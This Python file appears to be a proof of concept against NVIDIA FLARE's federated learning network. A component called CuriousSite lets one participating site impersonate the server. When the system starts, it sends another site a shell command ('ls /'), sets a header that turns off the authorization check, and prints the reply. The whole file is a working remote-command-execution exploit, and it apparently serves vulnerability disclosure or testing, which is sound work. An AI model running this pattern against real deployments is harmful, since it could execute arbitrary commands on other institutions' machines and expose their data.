"""A hospital that abuses its place in the network: it asks another one for its files, as if it were the server."""

from __future__ import annotations

import threading

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_context import FLContext
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, RequestHeader, SysCommandTopic, new_cell_message


class CuriousSite(FLComponent):
    """Asks once it takes part, with a header by which FLARE checks no right, and prints the answer."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        if event_type == EventType.SYSTEM_START:
            threading.Thread(target=self._ask, args=(fl_ctx.get_engine().get_cell(),), daemon=True).start()

    def _ask(self, cell: Cell) -> None:
        request = Message(topic=SysCommandTopic.SHELL, body="ls /")
        request.set_header(RequestHeader.REQUIRE_AUTHZ, "false")
        reply = cell.send_request(
            channel=CellChannel.CLIENT_MAIN,
            topic="any",
            target=self.target,
            request=new_cell_message({}, request),
            timeout=20.0,
        )
        answer = reply.payload.body if isinstance(reply.payload, Message) else None
        print(f"{self.target} answered {answer}: {reply.get_header(MessageHeaderKey.ERROR)}", flush=True)
